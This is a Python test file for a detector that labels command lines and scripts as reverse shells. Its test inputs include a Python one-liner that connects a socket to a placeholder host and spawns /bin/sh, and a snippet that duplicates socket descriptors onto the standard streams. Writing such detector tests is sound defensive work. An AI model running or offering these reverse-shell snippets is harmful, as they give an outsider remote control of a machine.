"""Program text that ties a shell to a socket: on a command line by little, in a whole file only by what it does."""

from __future__ import annotations

from levaithan.hot.deeds_remote import of_line
from levaithan.hot.shell import Simple

_FILLER = "# a comment of some length, as files have them\n" * 60


def _kinds(code: str) -> list[str]:
    line = [Simple(["python3", "-c", code], [], "/work", None)]
    return [deed.kind for deed in of_line(line, code)]


def test_a_short_text_with_a_socket_and_a_shell() -> None:
    assert _kinds("import socket,pty;s=socket.socket();s.connect(('h',1));pty.spawn('/bin/sh')") == ["reverse-shell"]


def test_a_whole_file_that_hands_its_connection_to_a_shell() -> None:
    code = _FILLER + "s.connect(('h', 1))\nfor fd in range(3):\n    os.dup2(s.fileno(), fd)\n"
    assert _kinds(code) == ["reverse-shell"]


def test_a_whole_file_that_names_both_is_none() -> None:
    assert _kinds(_FILLER + "import socket\nimport subprocess\nprint(socket.gethostname(), subprocess.run)\n") == []


def test_a_whole_file_that_connects_and_starts_something_else_is_none() -> None:
    assert _kinds(_FILLER + "s.connect(('localhost', 80))\nsubprocess.run(['make', 'test'])\n") == []
